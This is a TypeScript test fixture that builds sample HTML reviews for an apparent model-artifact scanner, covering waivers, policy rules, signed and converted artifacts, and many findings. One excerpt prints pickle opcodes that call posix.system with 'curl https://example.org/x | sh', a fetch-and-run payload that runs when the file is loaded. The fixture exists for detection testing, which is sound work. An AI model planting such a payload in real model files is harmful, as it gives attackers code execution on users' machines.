import type { AttestedConversion } from '../../src/core/assessment/assessment.ts';
import type { Decision } from '../../src/core/assessment/decision.ts';
import { type Excerpt, type HtmlOptions, type Judged, renderHtml } from '../../src/report/index.ts';
import {
  CALL_RULE,
  CONTEXT,
  EXTENSION_RULE,
  file,
  finding,
  judged,
  mixed,
  signature,
  UNLISTED_RULE,
} from './sample.ts';

export const NOW = new Date('2026-01-02T03:04:05Z');

/** Independent of the shipped policies, which can change. */
const POLICY_DIGEST = `sha256:${'ef56'.repeat(16)}`;

/** The excerpts for the findings of `mixed()`. */
function excerpts({ assessment }: Judged): Map<string, Excerpt> {
  const [call, unlisted, extension] = assessment.findings.map(({ fingerprint }) => fingerprint);
  const bytes = Buffer.from('\x80\x04\x95\x2a\x00\x00\x00cacme.tokens\nTable\n)\x81}b.', 'latin1');
  return new Map<string, Excerpt>([
    [
      call ?? '',
      {
        kind: 'opcodes',
        at: 42,
        lines: [
          { offset: 2, text: 'EMPTY_DICT' },
          { offset: 14, text: 'GLOBAL "posix system"  # import posix.system' },
          { offset: 28, text: 'BINUNICODE "curl https://example.org/x | sh"' },
          { offset: 40, text: 'TUPLE1' },
          {
            offset: 42,
            text: "REDUCE  # posix.system('curl https://example.org/x | sh')",
          },
          { offset: 43, text: 'STOP' },
        ],
      },
    ],
    [unlisted ?? '', { kind: 'hex', start: 0, bytes, at: 7 }],
    [extension ?? '', { kind: 'none', why: 'the finding names a line, not a byte' }],
  ]);
}

/** Two waivers and the rules of a policy, as a decision carries them. */
function withWaivers({ assessment, decision }: Judged): Judged {
  const [, unlisted] = assessment.findings;
  const digest = assessment.artifact.digest ?? '';
  const waiver = { digest, owner: 'ada@example.org', from: 'waivers.yaml' };
  const full: Decision = {
    ...decision,
    policyDigest: POLICY_DIGEST,
    violations: [
      { rule: 'verdict.malicious', message: '1 file would run code when loaded', findings: [] },
      { rule: 'tests.passed', message: 'asks for behavioural tests, which are not there', findings: [] },
    ],
    rules: [
      { id: 'verdict.malicious', outcome: 'deny', message: '1 file would run code when loaded', findings: [] },
      { id: 'publisher.known', outcome: 'pass', message: '', findings: [] },
      {
        id: 'tests.passed',
        outcome: 'unavailable',
        message: 'asks for behavioural tests, which are not there',
        findings: [],
      },
    ],
    waivers: [
      {
        waiver: { ...waiver, rule: 'pickle.global.unlisted', reason: 'our own class, reviewed', expires: '2026-06-30' },
        outcome: 'applied',
        findings: unlisted === undefined ? [] : [unlisted.fingerprint],
      },
      {
        waiver: {
          ...waiver,
          rule: 'verdict.malicious',
          file: 'pytorch_model.bin',
          reason: 'we need it',
          expires: '2026-03-01',
        },
        outcome: 'refused',
        findings: [],
      },
    ],
  };
  return { assessment, decision: full };
}

const context = { ...CONTEXT, coverage: true };

/** The review of an artifact with a file of each verdict. */
export function mixedReview(over: Partial<HtmlOptions> = {}): string {
  const all = withWaivers(mixed());
  return renderHtml(all, context, { now: NOW, excerpts: excerpts(all), ...over });
}

/** The review of a signed artifact without a problem. */
export function cleanReview(): string {
  const files = [
    file({ path: 'config.json', format: 'json', size: 612 }),
    file({ path: 'model.safetensors', format: 'safetensors', size: 4_400_000 }),
  ];
  const { assessment, decision } = judged({ files, signatures: [signature({ covered: 2 })] });
  const rules = [{ id: 'verdict.malicious', outcome: 'pass', message: '', findings: [] }] as const;
  const fixed: Decision = { ...decision, action: 'allow', policyDigest: POLICY_DIGEST, violations: [], rules };
  return renderHtml({ assessment, decision: fixed }, context, { now: NOW });
}

/** An artifact that was converted from a clean source, and compared with it. */
export function convertedReview(): string {
  const files = [file({ path: 'model.onnx', format: 'onnx', verdict: 'not-assessed', size: 1400 })];
  const checks = ['attested', 'verified', 'source'].map(
    (name) => ({ id: `conversion.${name}`, status: 'pass', detail: 'a trusted signer says it' }) as const,
  );
  const same = { compared: 24, different: 0, undecided: 0, maxRelative: null, problem: null, pass: true };
  const conversion: AttestedConversion = {
    signer: 'converter',
    target: 'onnx',
    source: { pinned: 'hf://acme/model', digest: `sha256:${'ab12'.repeat(16)}`, verdict: 'clean' },
    salvaged: false,
    files: [
      {
        path: 'model.onnx',
        verification: {
          kind: 'against source outputs',
          of: 'file',
          pass: true,
          runtime: { name: 'onnxruntime-node', version: '1.0.0' },
          inputs: { from: 'file', sha256: `sha256:${'cd34'.repeat(16)}`, rounded: false },
          outputs: { sha256: `sha256:${'ef56'.repeat(16)}` },
          rows: 24,
          runs: [],
          tensors: null,
          problem: null,
          compared: [
            {
              output: 'label',
              role: 'label',
              ...same,
              maxAbsolute: null,
              agreement: 1,
              tolerance: { absolute: 1e-5, relative: 0 },
            },
            {
              output: 'probabilities',
              role: 'probabilities',
              ...same,
              maxAbsolute: 2.9e-8,
              agreement: null,
              tolerance: { absolute: 1e-5, relative: 0 },
            },
            {
              output: 'variable',
              role: 'values',
              ...same,
              maxAbsolute: 3e-4,
              maxRelative: 2e-6,
              agreement: null,
              tolerance: { absolute: 1e-5, relative: 1e-5 },
            },
          ],
        },
      },
    ],
  };
  const { assessment, decision } = judged({ files, checks, conversion });
  const fixed: Decision = { ...decision, action: 'warn', policyDigest: POLICY_DIGEST, violations: [], rules: [] };
  return renderHtml({ assessment, decision: fixed }, context, { now: NOW });
}

/** An artifact of 100 files with a number of findings of three rules. */
export function manyFindings(findings: number): Judged {
  const rules = [CALL_RULE, UNLISTED_RULE, EXTENSION_RULE];
  const paths = Array.from({ length: 100 }, (_, i) => `weights/part-${i}.pkl`);
  return judged({
    files: paths.map((path) => file({ path, verdict: 'malicious', imports: ['posix.system'] })),
    findings: Array.from({ length: findings }, (_, i) =>
      finding(rules[i % rules.length] ?? CALL_RULE, {
        file: paths[i % paths.length] ?? '',
        offset: i,
        message: `calls posix.system for the ${i}th time`,
        evidence: `posix.system('${i}')`,
      }),
    ),
  });
}
